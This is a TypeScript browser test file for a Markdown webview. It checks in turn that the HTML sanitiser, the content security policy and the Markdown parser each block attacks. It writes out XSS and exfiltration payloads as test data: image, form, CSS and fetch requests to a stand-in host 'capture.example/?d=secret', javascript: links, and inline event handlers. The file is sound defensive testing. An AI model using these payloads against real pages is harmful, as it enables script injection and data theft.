import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../support/vscode/browser.ts';
import { hostileText } from '../support/webview/hostileText.ts';
import type { markdownPage } from '../support/webview/markdownPage.ts';
import { openWebviewPage, type WebviewPage } from '../support/webview/webviewPage.ts';

declare const markdown: typeof markdownPage;

const capture = 'https://capture.example/?d=secret';

/** What the sanitiser alone has to stop: the Markdown parser is not asked, and neither is the page's policy. */
const hostileHtml = [
	hostileText,
	`<img src="${capture}" onerror="alert(1)"><picture><source srcset="${capture}"></picture>`,
	`<svg><use href="${capture}#a"/></svg><math href="${capture}">m</math>`,
	`<a href="${capture}">a</a><a href="javascript:alert(1)">b</a><a data-url="javascript:alert(1)">c</a>`,
	`<p style="background:url(${capture})" onclick="alert(1)">p</p><style>p{background:url(${capture})}</style>`,
	`<form action="${capture}"><button formaction="${capture}">x</button></form><input name="root">`,
	`<template><img src="${capture}"></template><noscript><p title="</noscript><img src=${capture}>"></noscript>`,
	`<iframe srcdoc="<img src=${capture}>"></iframe><object data="${capture}"></object>`,
	`<p id="root" name="root" data-x="1" aria-label="x">named</p>`,
];

/** What stays of HTML: only these elements with only these attributes. */
const allowed =
	/^(?:p|h[1-6]|blockquote|ul|ol|li|hr|br|pre|code|span|em|strong|s|a|table|thead|tbody|tr|th|td)(?: (?:class|start|role|tabindex|data-url|data-code))*$/;

describe('the gates of a page, each without the others', () => {
	let browser: Browser;
	let opened: WebviewPage;

	before(async () => {
		browser = await launchBrowser();
	});
	beforeEach(async () => {
		opened = await openWebviewPage(browser, { entry: 'test/support/webview/markdownPage.ts' });
	});
	afterEach(() => opened.page.context().close());
	after(() => browser.close());

	it('the sanitiser lets only text and its formatting through [attack 4] [attack 6]', async () => {
		const { kept, urls } = await opened.page.evaluate((html) => {
			const elements = html.flatMap((text) => [...markdown.addSanitised(text).querySelectorAll('*')]);
			return {
				kept: elements.map((element) => [element.localName, ...element.getAttributeNames()].join(' ')),
				urls: elements.map((element) => element.getAttribute('data-url') ?? ''),
			};
		}, hostileHtml);
		assert.ok(kept.includes('p') && kept.includes('a'), 'harmless elements stay');
		assert.deepEqual(
			kept.filter((element) => !allowed.test(element)),
			[],
		);
		assert.deepEqual(
			urls.filter((url) => /^\s*(javascript|data|vbscript|file|command):/i.test(url)),
			[],
		);
		assert.deepEqual(opened.requests, []);
	});

	it('the policy blocks what a page would load, run or send if all else failed [attack 4] [attack 6]', async () => {
		const blocked = await opened.page.evaluate(async (url) => {
			const directives: string[] = [];
			document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
			const place = document.createElement('div');
			place.innerHTML = [
				`<img src="${url}"><video src="${url}"></video><iframe src="${url}"></iframe><object data="${url}"></object>`,
				`<link rel="stylesheet" href="${url}"><style>p { color: red }</style><p style="color: red">p</p>`,
				`<p onclick="window.ran = true">x</p><form action="${url}"><button>go</button></form>`,
			].join('');
			document.body.append(place);
			const script = document.createElement('script');
			script.textContent = 'window.ran = true';
			document.body.append(script);
			const base = document.createElement('base');
			base.href = url;
			document.head.append(base);
			place.querySelector<HTMLElement>('[onclick]')?.click();
			place.querySelector('button')?.click();
			await fetch(url).catch(() => undefined);
			const font = new FontFace('x', `url(${url})`);
			await font.load().catch(() => undefined);
			new Worker('data:text/javascript,').onerror = () => undefined;
			const submitted = () => directives.includes('form-action');
			for (let tries = 0; tries < 100 && !submitted(); tries++) {
				await new Promise((resolve) => requestAnimationFrame(resolve));
			}
			return { directives, ran: 'ran' in window, base: document.baseURI };
		}, capture);
		assert.equal(blocked.ran, false, blocked.directives.join('\n'));
		assert.deepEqual(opened.requests, []);
		assert.equal(blocked.base, 'http://webview.test/');
		const expected = ['base-uri', 'connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src'];
		for (const directive of [...expected, 'object-src', 'script-src', 'style-src-elem', 'style-src-attr']) {
			assert.ok(
				blocked.directives.some((found) => found.startsWith(directive)),
				`${directive} blocked nothing: ${blocked.directives.join(', ')}`,
			);
		}
	});

	it('the parser alone makes no element of HTML and no picture: it is shown as text [attack 4]', async () => {
		const answer = await opened.page.evaluate(async (text) => {
			const view = markdown.add();
			view.text = text;
			view.final = true;
			await new Promise((resolve) => view.addEventListener('markdown-settled', resolve, { once: true }));
			return { text: view.innerText, pictures: view.querySelectorAll('img, script, a[href]').length };
		}, hostileText);
		assert.equal(answer.pictures, 0);
		assert.match(answer.text, /<img src="https:\/\/capture\.example\/\?d=secret">/);
		assert.match(answer.text, /<script>alert\(1\)<\/script>/);
		assert.deepEqual(opened.requests, []);
	});
});
